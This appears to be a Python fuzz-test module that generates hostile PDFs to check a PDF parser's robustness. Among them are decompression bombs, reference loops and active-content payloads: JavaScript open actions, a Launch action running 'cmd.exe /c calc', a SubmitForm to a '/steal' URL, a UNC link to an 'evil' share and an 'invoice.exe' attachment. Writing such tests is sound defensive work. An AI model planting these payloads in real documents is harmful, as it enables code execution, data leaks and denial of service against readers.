"""Hostile PDFs, written by hand (objects, computed xref offsets) or with
pypdf's writer: truncations, flipped bits, broken xrefs, loops, nesting,
bombs, scripts, encryption, malformed objects."""

from __future__ import annotations

import io
import zlib
from collections.abc import Callable

from tests.fuzz.corpus import MUTE, REPO_ROOT, CorpusWriter, Expect

# -- PDF by hand -----------------------------------------------------------

HEADER = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"  # the binary comment marks it as binary


def pdf_text(text: str) -> bytes:
    """A PDF literal string body (Latin-1), with its delimiters escaped."""
    raw = text.encode("latin-1", "replace")
    return raw.replace(b"\\", b"\\\\").replace(b"(", b"\\(").replace(b")", b"\\)")


def text_ops(text: str, y: int = 720) -> bytes:
    return b"BT /F1 12 Tf 72 %d Td (%s) Tj ET" % (y, pdf_text(text))


def stream(data: bytes, *, compress: bool = False, extra: bytes = b"") -> bytes:
    if compress:
        data = zlib.compress(data, 9)
        extra = b" /Filter /FlateDecode" + extra
    return b"<< /Length %d%s >>\nstream\n%s\nendstream" % (len(data), extra, data)


def build_pdf(
    objects: list[bytes],
    *,
    root: int = 1,
    trailer_extra: bytes = b"",
    header: bytes = HEADER,
) -> bytes:
    """Objects numbered from 1 in order, a classic xref table, a trailer."""
    out = bytearray(header)
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root %d 0 R%s >>\n" % (len(objects) + 1, root, trailer_extra)
    out += b"startxref\n%d\n%%%%EOF\n" % xref
    return bytes(out)


FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>"


def page_pdf(
    contents: list[bytes],
    *,
    catalog_extra: bytes = b"",
    page_extra: bytes = b"",
    resources_extra: bytes = b"",
    extra_objects: list[bytes] | None = None,
    trailer_extra: bytes = b"",
    compress: bool = False,
    header: bytes = HEADER,
) -> bytes:
    """One page per content stream. Objects: 1 catalog, 2 pages, 3 font,
    4.. extra objects, then per page a page and its content."""
    extra = list(extra_objects or [])
    first_page = 4 + len(extra)
    kids = b" ".join(b"%d 0 R" % (first_page + 2 * i) for i in range(len(contents)))
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R%s >>" % catalog_extra,
        b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, len(contents)),
        FONT,
        *extra,
    ]
    for index, content in enumerate(contents):
        page = first_page + 2 * index
        objects.append(
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] "
            b"/Resources << /Font << /F1 3 0 R >>%s >> /Contents %d 0 R%s >>"
            % (resources_extra, page + 1, page_extra)
        )
        objects.append(stream(content, compress=compress))
    return build_pdf(objects, trailer_extra=trailer_extra, header=header)


def good_pdf(text: str, *, compress: bool = True) -> bytes:
    return page_pdf([text_ops(text)], compress=compress)


# -- PDF kinds -------------------------------------------------------------


def _corpus_pdfs() -> list[bytes]:
    folder = REPO_ROOT / "corpus"
    return [p.read_bytes() for p in sorted(folder.glob("*.pdf"))] if folder.is_dir() else []


def pdf_truncated(c: CorpusWriter) -> None:
    base = good_pdf(c.sentence())
    for _ in range(34):
        cut = c.rng.randrange(1, len(base))
        c.add(c.name("pdf-truncated", ".pdf"), base[:cut], "pdf-truncated", "may", f"cut at {cut}")
    for data in _corpus_pdfs()[:2]:  # real files, cut before their xref and after
        for share in (0.3, 0.97):
            cut = int(len(data) * share)
            c.add(c.name("pdf-truncated", ".pdf"), data[:cut], "pdf-truncated", "may")
    for cut in (4, 9, len(HEADER)):  # nothing but (part of) the header
        c.add(c.name("pdf-truncated", ".pdf"), base[:cut], "pdf-truncated", "fail")


def pdf_bitflip(c: CorpusWriter) -> None:
    bases = [good_pdf(c.sentence()), good_pdf(MUTE, compress=False)]
    for index in range(70):
        data = bytearray(bases[index % 2])
        for _ in range(c.rng.choice((1, 2, 4, 8, 32, 128))):
            position = c.rng.randrange(len(data))
            data[position] ^= 1 << c.rng.randrange(8)
        c.add(c.name("pdf-bitflip", ".pdf"), bytes(data), "pdf-bitflip", "may")


def pdf_xref(c: CorpusWriter) -> None:
    kind = "pdf-broken-xref"
    real = _xref_variants(c, good_pdf(c.sentence()))
    mute = _xref_variants(c, good_pdf(MUTE))
    for index, note in enumerate(real):
        data = real[note] if index % 3 == 0 else mute[note]
        c.add(c.name(kind, ".pdf"), data, kind, "may", note)


def _xref_variants(c: CorpusWriter, base: bytes) -> dict[str, bytes]:
    head, _, tail = base.rpartition(b"startxref\n")
    xref_at = int(tail.split(b"\n")[0])
    table_start = base.index(b"xref\n0 ")
    body, table = base[:table_start], base[table_start:]
    variants = {
        "startxref past the end": head + b"startxref\n99999999\n%%EOF\n",
        "startxref zero": head + b"startxref\n0\n%%EOF\n",
        "startxref negative": head + b"startxref\n-42\n%%EOF\n",
        "startxref not a number": head + b"startxref\nabc\n%%EOF\n",
        "no startxref": head + b"%%EOF\n",
        "no %%EOF": base.replace(b"%%EOF", b""),
        "no xref table": body + b"trailer\n<< /Size 6 /Root 1 0 R >>\n%%EOF\n",
        "offsets shifted": body + table.replace(b" 00000 n", b" 00007 n"),
        "all offsets zero": body
        + b"xref\n0 6\n"
        + b"0000000000 65535 f \n" * 6
        + table[table.index(b"trailer") :],
        "garbage table": body
        + b"xref\n0 6\n"
        + c.random_bytes(120)
        + b"\n"
        + table[table.index(b"trailer") :],
        "count too large": body + table.replace(b"xref\n0 6", b"xref\n0 99999999", 1),
        "size huge": base.replace(b"/Size 6", b"/Size 2147483648"),
        "root missing": base.replace(b"/Root 1 0 R", b""),
        "root to nowhere": base.replace(b"/Root 1 0 R", b"/Root 999 0 R"),
        "trailer missing": body + table.replace(b"trailer", b"trailor"),
        "prev loop": base.replace(b"/Root 1 0 R", b"/Root 1 0 R /Prev %d" % xref_at),
        "prev garbage": base.replace(b"/Root 1 0 R", b"/Root 1 0 R /Prev 12"),
        "xrefstm garbage": base.replace(b"/Root 1 0 R", b"/Root 1 0 R /XRefStm 30"),
        "two trailers": base + b"trailer\n<< /Size 3 /Root 2 0 R >>\nstartxref\n5\n%%EOF\n",
        "junk before header": c.random_bytes(700) + base,
        "junk after eof": base + c.random_bytes(3000),
        "header late": b"\n" * 2000 + base,
        "version 9.9": base.replace(b"%PDF-1.7", b"%PDF-9.9", 1),
        "xref stream garbage": body
        + b"7 0 obj\n<< /Type /XRef /Size 8 /W [1 2 1] /Root 1 0 R /Length 30 >>\nstream\n"
        + c.random_bytes(30)
        + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % len(body),
        "xref stream huge w": body
        + b"7 0 obj\n<< /Type /XRef /Size 8 /W [9999 9999 9999] /Root 1 0 R /Length 4 >>\n"
        b"stream\nabcd\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % len(body),
        "object numbers huge": base.replace(b"5 0 obj", b"9223372036854775807 0 obj"),
        "generation huge": base.replace(b"5 0 obj", b"5 99999999999 obj"),
        "endobj missing": base.replace(b"endobj", b""),
        "obj keyword missing": base.replace(b" 0 obj", b" 0 ob"),
        "crlf everywhere": base.replace(b"\n", b"\r\n"),
    }
    return variants


def pdf_loops(c: CorpusWriter) -> None:
    kind = "pdf-object-loop"
    text = text_ops(c.sentence())

    def objs(*bodies: bytes, trailer_extra: bytes = b"") -> bytes:
        return build_pdf(list(bodies), trailer_extra=trailer_extra)

    page = b"<< /Type /Page /Parent 2 0 R /Resources << /Font << /F1 4 0 R >> >> /Contents 5 0 R >>"
    variants: dict[str, tuple[bytes, Expect]] = {
        # The page tree holds itself; its only other kid is a page with text.
        "kids hold the pages node": (
            objs(
                b"<< /Type /Catalog /Pages 2 0 R >>",
                b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>",
                page,
                FONT,
                stream(text),
            ),
            "may",
        ),
        "pages node is its own only kid": (
            objs(
                b"<< /Type /Catalog /Pages 2 0 R >>",
                b"<< /Type /Pages /Kids [2 0 R] /Count 1 >>",
            ),
            "fail",
        ),
        "two pages nodes in a ring": (
            objs(
                b"<< /Type /Catalog /Pages 2 0 R >>",
                b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                b"<< /Type /Pages /Kids [2 0 R] /Count 1 /Parent 2 0 R >>",
            ),
            "fail",
        ),
        "root is a reference to itself": (
            objs(b"1 0 R", b"<< /Type /Pages /Kids [] /Count 0 >>"),
            "fail",
        ),
        "contents array holds itself": (
            objs(
                b"<< /Type /Catalog /Pages 2 0 R >>",
                b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                b"<< /Type /Page /Parent 2 0 R /Resources << /Font << /F1 4 0 R >> >> "
                b"/Contents 5 0 R >>",
                FONT,
                b"[5 0 R 6 0 R]",
                stream(text),
            ),
            "may",
        ),
        "length refers to itself": (
            objs(
                b"<< /Type /Catalog /Pages 2 0 R >>",
                b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                page,
                FONT,
                b"<< /Length 6 0 R >>\nstream\n" + text + b"\nendstream",
                b"6 0 R",
            ),
            "may",
        ),
        "form draws itself": (
            objs(
                b"<< /Type /Catalog /Pages 2 0 R >>",
                b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                b"<< /Type /Page /Parent 2 0 R /Resources << /Font << /F1 4 0 R >> "
                b"/XObject << /X1 6 0 R >> >> /Contents 5 0 R >>",
                FONT,
                stream(text + b" /X1 Do"),
                b"<< /Type /XObject /Subtype /Form /BBox [0 0 100 100] /Resources << "
                b"/XObject << /X1 6 0 R >> /Font << /F1 4 0 R >> >> /Length 26 >>\n"
                b"stream\nBT (loop) Tj ET /X1 Do   \nendstream",
            ),
            "may",
        ),
        "outline ring": (
            objs(
                b"<< /Type /Catalog /Pages 2 0 R /Outlines 6 0 R /PageMode /UseOutlines >>",
                b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                page,
                FONT,
                stream(text),
                b"<< /Type /Outlines /First 7 0 R /Last 7 0 R /Count 1 >>",
                b"<< /Title (a) /Parent 6 0 R /Next 7 0 R /Prev 7 0 R /First 7 0 R "
                b"/Dest [3 0 R /Fit] >>",
            ),
            "may",
        ),
        "resources inherit in a ring": (
            objs(
                b"<< /Type /Catalog /Pages 2 0 R >>",
                b"<< /Type /Pages /Kids [3 0 R] /Count 1 /Parent 3 0 R >>",
                b"<< /Type /Page /Parent 2 0 R /Contents 5 0 R >>",
                FONT,
                stream(text),
            ),
            "may",
        ),
        "chain of 3000 references": (
            build_pdf(
                [
                    b"<< /Type /Catalog /Pages 2 0 R >>",
                    b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                    b"<< /Type /Page /Parent 2 0 R /Resources << /Font << /F1 4 0 R >> >> "
                    b"/Contents 5 0 R /Rotate 6 0 R >>",
                    FONT,
                    stream(text),
                    *[b"%d 0 R" % (n + 1) for n in range(6, 3006)],
                    b"0",
                ]
            ),
            "may",
        ),
    }
    for note, (data, expect) in variants.items():
        c.add(c.name(kind, ".pdf"), data, kind, expect, note)


def pdf_deep(c: CorpusWriter) -> None:
    kind = "pdf-deep-nesting"
    text = text_ops(c.sentence())
    for depth in (100, 5_000, 50_000):
        arrays = b"[" * depth + b"]" * depth
        dicts = b"<< /A " * depth + b">> " * depth
        c.add(
            c.name(kind, ".pdf"),
            page_pdf([text], page_extra=b" /Junk " + arrays),
            kind,
            "may",
            f"arrays {depth} deep in the page",
        )
        c.add(
            c.name(kind, ".pdf"),
            page_pdf([text], catalog_extra=b" /Junk " + dicts),
            kind,
            "may",
            f"dictionaries {depth} deep in the catalog",
        )
        c.add(
            c.name(kind, ".pdf"),
            page_pdf([b"q " * depth + text + b" Q" * depth]),
            kind,
            "may",
            f"graphics states {depth} deep",
        )
    c.add(
        c.name(kind, ".pdf"),
        page_pdf([b"BT " + b"[" * 100_000 + b"(x)" + b"]" * 100_000 + b" TJ ET"]),
        kind,
        "may",
        "TJ array nested 100k deep",
    )
    c.add(
        c.name(kind, ".pdf"),
        page_pdf([b"BT /F1 12 Tf (" + b"(" * 30_000 + b")" * 30_000 + b") Tj ET"]),
        kind,
        "may",
        "string with 30k nested parentheses",
    )
    # The pages tree itself 2,000 levels deep, with the text page at the bottom.
    depth = 2000
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>"]
    for level in range(depth):
        number = level + 2
        parent = b" /Parent %d 0 R" % (number - 1) if level else b""
        objects.append(b"<< /Type /Pages /Kids [%d 0 R] /Count 1%s >>" % (number + 1, parent))
    page_number = depth + 2
    objects.append(
        b"<< /Type /Page /Parent %d 0 R /Resources << /Font << /F1 %d 0 R >> >> "
        b"/Contents %d 0 R >>" % (page_number - 1, page_number + 1, page_number + 2)
    )
    objects += [FONT, stream(text)]
    c.add(c.name(kind, ".pdf"), build_pdf(objects), kind, "may", "page tree 2000 deep")


def _bomb_stream(size_mb: int) -> bytes:
    """zlib data that inflates to ``size_mb`` MB of spaces, made without
    holding the inflated bytes."""
    compressor = zlib.compressobj(9)
    block = b" " * (1 << 20)
    out = bytearray()
    for _ in range(size_mb):
        out += compressor.compress(block)
    out += compressor.flush()
    return bytes(out)


def pdf_bombs(c: CorpusWriter) -> None:
    kind = "pdf-flate-bomb"
    big = _bomb_stream(400)  # one stream of 400 MB: over pypdf's own cap
    part = _bomb_stream(70)  # under the cap, but ten of them on one page
    flate = b" /Filter /FlateDecode"
    one = b"<< /Length %d%s >>\nstream\n%s\nendstream" % (len(big), flate, big)
    piece = b"<< /Length %d%s >>\nstream\n%s\nendstream" % (len(part), flate, part)
    catalog = b"<< /Type /Catalog /Pages 2 0 R >>"

    def page(contents: bytes, pages_extra: bytes = b"") -> list[bytes]:
        return [
            catalog,
            b"<< /Type /Pages /Kids [3 0 R] /Count 1%s >>" % pages_extra,
            b"<< /Type /Page /Parent 2 0 R /Resources << /Font << /F1 4 0 R >> >> "
            b"/Contents %s >>" % contents,
            FONT,
        ]

    c.add(
        c.name(kind, ".pdf"),
        build_pdf([*page(b"5 0 R"), one]),
        kind,
        "fail",
        "one 400 MB content stream",
    )
    tens = b"[" + b" ".join(b"%d 0 R" % n for n in range(5, 15)) + b"]"
    c.add(
        c.name(kind, ".pdf"),
        build_pdf([*page(tens), *[piece] * 10]),
        kind,
        "fail",
        "ten 70 MB content streams on one page",
    )
    # Five pages, each with ten such streams.
    objects = [catalog, b"<< /Type /Pages /Kids [3 0 R 4 0 R 5 0 R 6 0 R 7 0 R] /Count 5 >>"]
    for _ in range(5):
        objects.append(
            b"<< /Type /Page /Parent 2 0 R /Resources << /Font << /F1 8 0 R >> >> "
            b"/Contents [" + b" ".join(b"%d 0 R" % n for n in range(9, 19)) + b"] >>"
        )
    objects += [FONT, *[piece] * 10]
    c.add(c.name(kind, ".pdf"), build_pdf(objects), kind, "fail", "five pages, 700 MB each")
    c.add(
        c.name(kind, ".pdf"),
        build_pdf(
            [
                *page(b"5 0 R"),
                b"<< /Length %d%s%s >>\nstream\n%s\nendstream"
                % (len(part), flate, b" /DecodeParms << /Predictor 12 /Columns 9999999 >>", part),
            ]
        ),
        kind,
        "fail",
        "a predictor with absurd columns",
    )
    # A 70 MB string of spaces in one Tj (70 KB compressed, under pypdf's
    # stream cap): its tokenizer reads strings a byte at a time, so this one
    # runs into the parse time limit.
    content = zlib.compress(b"BT /F1 12 Tf (" + b" " * (70 << 20) + b") Tj ET", 9)
    c.add(
        c.name(kind, ".pdf"),
        build_pdf(
            [
                *page(b"5 0 R"),
                b"<< /Length %d%s >>\nstream\n%s\nendstream" % (len(content), flate, content),
            ]
        ),
        kind,
        "fail",
        "a 70 MB string in one text operator",
    )
    # Nested filters: a stream compressed three times over.
    inner = zlib.compress(zlib.compress(zlib.compress(b" " * (60 << 20), 9), 9), 9)
    c.add(
        c.name(kind, ".pdf"),
        build_pdf(
            [
                *page(b"5 0 R"),
                b"<< /Length %d /Filter [/FlateDecode /FlateDecode /FlateDecode] >>\nstream\n%s"
                b"\nendstream" % (len(inner), inner),
            ]
        ),
        kind,
        "fail",
        "a 60 MB stream compressed three times",
    )


def pdf_many_pages(c: CorpusWriter) -> None:
    kind = "pdf-many-pages"
    # 3,000 pages sharing one empty content stream: no text anywhere.
    count = 3000
    kids = b" ".join(b"%d 0 R" % (n + 5) for n in range(count))
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, count),
        FONT,
        stream(b""),
    ]
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>"
    objects += [page] * count
    c.add(c.name(kind, ".pdf"), build_pdf(objects), kind, "fail", "3000 empty pages")
    # 2,000 pages sharing one line of text: every page's only line is a
    # running header, so it is stripped everywhere.
    shared = stream(text_ops(c.sentence()))
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [%s] /Count %d >>"
        % (b" ".join(b"%d 0 R" % (n + 5) for n in range(2000)), 2000),
        FONT,
        shared,
    ]
    page = (
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] "
        b"/Resources << /Font << /F1 3 0 R >> >> /Contents 4 0 R >>"
    )
    objects += [page] * 2000
    c.add(c.name(kind, ".pdf"), build_pdf(objects), kind, "may", "2000 identical pages")
    # /Count lies: says a billion pages.
    data = good_pdf(c.sentence()).replace(b"/Count 1", b"/Count 1000000000")
    c.add(c.name(kind, ".pdf"), data, kind, "may", "/Count 1000000000")
    # 150 pages with a few words each: a long but sound document.
    # Words no question of the test asks about, so these pages never outrank the good files.
    words = "amber basil cedar dune ember fjord grove heron iris juniper".split()
    contents = [text_ops(" ".join(c.rng.choice(words) for _ in range(6)) + ".") for _ in range(150)]
    c.add(c.name(kind, ".pdf"), page_pdf(contents, compress=True), kind, "may", "150 pages")


def _pypdf_variant(base: bytes, change: Callable[..., object]) -> bytes:
    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(base)))
    change(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _javascript(code: str) -> object:
    from pypdf.actions import JavaScript

    return JavaScript(code)


def pdf_active(c: CorpusWriter) -> None:
    kind = "pdf-javascript-attachments"

    def add(note: str, data: bytes) -> None:
        c.add(c.name(kind, ".pdf"), data, kind, "may", note)

    text = text_ops(c.sentence())
    add(
        "OpenAction JavaScript",
        page_pdf(
            [text],
            catalog_extra=b" /OpenAction << /S /JavaScript /JS (app.alert\\('pwned'\\); "
            b"this.exportDataObject\\({cName: 'a', nLaunch: 2}\\);) >>",
        ),
    )
    add(
        "JavaScript name tree with a stream",
        page_pdf(
            [text],
            catalog_extra=b" /Names << /JavaScript << /Names [(init) << /S /JavaScript "
            b"/JS 4 0 R >>] >> >>",
            extra_objects=[stream(b"while(true){app.beep(0);}")],
        ),
    )
    add(
        "Launch action on page open",
        page_pdf(
            [text],
            page_extra=b" /AA << /O << /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >> >>",
        ),
    )
    add(
        "link annotations: URI, GoToR, SubmitForm",
        page_pdf(
            [text],
            page_extra=b" /Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI "
            b"/URI (javascript:alert\\(1\\)) >> >> << /Type /Annot /Subtype /Link /Rect "
            b"[0 0 9 9] /A << /S /GoToR /F (\\\\\\\\evil\\\\share\\\\x.pdf) /D [0 /Fit] >> >> "
            b"<< /Type /Annot /Subtype /Widget /Rect [0 0 9 9] /A << /S /SubmitForm /F "
            b"(http://127.0.0.1:9/steal) >> >>]",
        ),
    )
    add(
        "XFA form",
        page_pdf(
            [text],
            catalog_extra=b" /AcroForm << /Fields [] /XFA 4 0 R >> /NeedsRendering true",
            extra_objects=[
                stream(
                    b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'><script>x()</script></xdp:xdp>"
                )
            ],
        ),
    )
    add(
        "RichMedia annotation with a Flash stream",
        page_pdf(
            [text],
            page_extra=b" /Annots [<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] "
            b"/RichMediaContent << /Assets << /Names [(a.swf) << /EF << /F 4 0 R >> >>] >> >> >>]",
            extra_objects=[stream(b"FWS\x09" + c.rng.randbytes(200))],
        ),
    )
    base = good_pdf(c.sentence())
    add(
        "pypdf open action",
        _pypdf_variant(base, lambda w: w.add_open_action(_javascript("app.alert('pypdf');"))),
    )
    add(
        "an .exe attachment",
        _pypdf_variant(
            base, lambda w: w.add_attachment("invoice.exe", b"MZ\x90\x00" + c.rng.randbytes(2000))
        ),
    )
    add(
        "a PDF inside a PDF",
        _pypdf_variant(base, lambda w: w.add_attachment("inner.pdf", good_pdf(c.sentence()))),
    )
    add(
        "attachment that is a flate bomb",
        page_pdf(
            [text],
            catalog_extra=b" /Names << /EmbeddedFiles << /Names [(bomb.txt) << /Type /Filespec "
            b"/F (bomb.txt) /EF << /F 4 0 R >> >>] >> >>",
            extra_objects=[
                b"<< /Type /EmbeddedFile /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream"
                % (len(bomb := _bomb_stream(100)), bomb)
            ],
        ),
    )
    add(
        "embedded font program of garbage",
        page_pdf(
            [text],
            extra_objects=[stream(c.rng.randbytes(3000))],
            resources_extra=b" /Font << /F2 << /Type /Font /Subtype /TrueType /BaseFont /X "
            b"/FontDescriptor << /FontFile2 4 0 R >> >> >>",
        ),
    )


def pdf_encrypted(c: CorpusWriter) -> None:
    kind = "pdf-encrypted"
    base = good_pdf(c.sentence())
    encryptions: tuple[tuple[str, str, str, Expect], ...] = (
        ("RC4-40 with a user password", "secret", "RC4-40", "fail"),
        ("RC4-128 with a user password", "secret", "RC4-128", "fail"),
        ("AES-256 with a user password", "secret", "AES-256", "fail"),
        ("RC4-128 with an owner password only", "", "RC4-128", "may"),
    )
    for note, user, algorithm, expect in encryptions:
        try:
            data = _pypdf_variant(
                base, lambda w, u=user, a=algorithm: w.encrypt(u, owner_password="o", algorithm=a)
            )
        except Exception as exc:  # e.g. AES without the cryptography package
            c.not_made.append(f"{kind}: {note}: {exc}")
            continue
        c.add(c.name(kind, ".pdf"), data, kind, expect, note)
    c.add(
        c.name(kind, ".pdf"),
        base.replace(b"/Root 1 0 R", b"/Root 1 0 R /Encrypt << /Filter /Nonsense /V 99 >>"),
        kind,
        "may",
        "an /Encrypt dictionary of nonsense",
    )


def pdf_not_pdf(c: CorpusWriter) -> None:
    kind = "pdf-not-a-pdf"
    samples: list[tuple[str, bytes]] = [
        ("header only", b"%PDF-1.7\n"),
        ("header then NULs", b"%PDF-1.4\n" + b"\x00" * 5000),
        ("header then random", b"%PDF-1.4\n" + c.random_bytes(4000)),
        ("HTML renamed", b"<html><body><p>" + c.sentence().encode() + b"</p></body></html>"),
        ("plain text renamed", c.sentence().encode()),
        ("zip", b"PK\x03\x04" + c.random_bytes(2000)),
        ("png", b"\x89PNG\r\n\x1a\n" + c.random_bytes(2000)),
        ("elf", b"\x7fELF\x02\x01\x01" + c.random_bytes(2000)),
        ("gzip of a pdf", b"\x1f\x8b" + zlib.compress(good_pdf(c.sentence()))),
        ("PostScript", b"%!PS-Adobe-3.0\n/Helvetica findfont 12 scalefont setfont\n"),
        ("only %%EOF", b"%%EOF\n" * 50),
    ]
    for index in range(12):
        samples.append((f"random {index}", c.random_bytes(c.rng.choice((10, 300, 5000, 60000)))))
    for note, data in samples:
        c.add(c.name(kind, ".pdf"), data, kind, "fail", note)


def pdf_malformed_objects(c: CorpusWriter) -> None:
    kind = "pdf-malformed-objects"
    text = text_ops(c.sentence())

    def add(note: str, data: bytes) -> None:
        c.add(c.name(kind, ".pdf"), data, kind, "may", note)

    good = good_pdf(c.sentence(), compress=False)
    add("MediaBox of NaN and 1e400", good.replace(b"[0 0 612 792]", b"[0 0 1e400 NaN]"))
    add("MediaBox empty", good.replace(b"[0 0 612 792]", b"[]"))
    add("negative length", good.replace(b"/Length", b"/Length -5 /L"))
    add("length past the end", re_length(good, b"99999999"))
    add("length zero", re_length(good, b"0"))
    add("endstream missing", good.replace(b"endstream", b""))
    add("stream keyword missing", good.replace(b"stream\n", b"\n", 1))
    add("unbalanced parentheses", page_pdf([b"BT /F1 12 Tf (" + b"((a)" * 2000 + b" Tj ET"]))
    add("odd hex string", page_pdf([text + b" BT <4a4b4> Tj <zz> Tj ET"]))
    add("names with NUL escapes", page_pdf([text], page_extra=b" /A#00B#zz /#00 /"))
    add("unknown operators", page_pdf([text + b" " + b"xyz " * 20_000]))
    add("100k unclosed q", page_pdf([b"q " * 100_000 + text]))
    add("100k Q without q", page_pdf([text + b" Q" * 100_000]))
    add(
        "absurd text matrix",
        page_pdf([b"BT 1e308 0 0 1e308 0 0 Tm /F1 1e308 Tf (x) Tj ET " + text]),
    )
    add("huge TJ array", page_pdf([b"BT /F1 12 Tf [" + b"(a) -100 " * 100_000 + b"] TJ ET"]))
    add("font missing", page_pdf([text.replace(b"/F1", b"/F9")]))
    add("font is an integer", good.replace(FONT, b"42"))
    add(
        "ToUnicode bfrange over 4 billion codes",
        page_pdf(
            [text],
            extra_objects=[
                stream(
                    b"/CIDInit /ProcSet findresource begin 12 dict begin begincmap "
                    b"1 begincodespacerange <00000000> <FFFFFFFF> endcodespacerange "
                    b"1 beginbfrange <00000000> <FFFFFFFF> <0041> endbfrange endcmap"
                )
            ],
            resources_extra=b"",
        ).replace(FONT, FONT[:-2] + b"/ToUnicode 4 0 R >>"),
    )
    add(
        "ToUnicode with 200k entries",
        page_pdf(
            [text],
            extra_objects=[stream(b"beginbfchar " + b"<41> <0042> " * 200_000 + b"endbfchar")],
        ).replace(FONT, FONT[:-2] + b"/ToUnicode 4 0 R >>"),
    )
    add(
        "Differences of 100k glyphs",
        good.replace(
            b"/Encoding /WinAnsiEncoding",
            b"/Encoding << /Differences [0 " + b"/a " * 100_000 + b"] >>",
        ),
    )
    add("unknown filter", good.replace(b"/Length", b"/Filter /NoSuchDecode /Length"))
    add("1000 filters", good.replace(b"/Length", b"/Filter [" + b"/AHx " * 1000 + b"] /Length"))
    add("LZW of garbage", good.replace(b"/Length", b"/Filter /LZWDecode /Length"))
    add("ASCII85 of garbage", good.replace(b"/Length", b"/Filter /A85 /Length"))
    add("DCT image only", good.replace(b"/Length", b"/Filter /DCTDecode /Length"))
    add("Crypt filter without encryption", good.replace(b"/Length", b"/Filter /Crypt /Length"))
    add(
        "text in a 100 KB line",
        page_pdf([b"BT /F1 12 Tf (" + b"." * 100_000 + b") Tj ET " + text], compress=True),
    )


def re_length(pdf: bytes, value: bytes) -> bytes:
    start = pdf.index(b"/Length ") + len(b"/Length ")
    end = start
    while pdf[end : end + 1].isdigit():
        end += 1
    return pdf[:start] + value + pdf[end:]
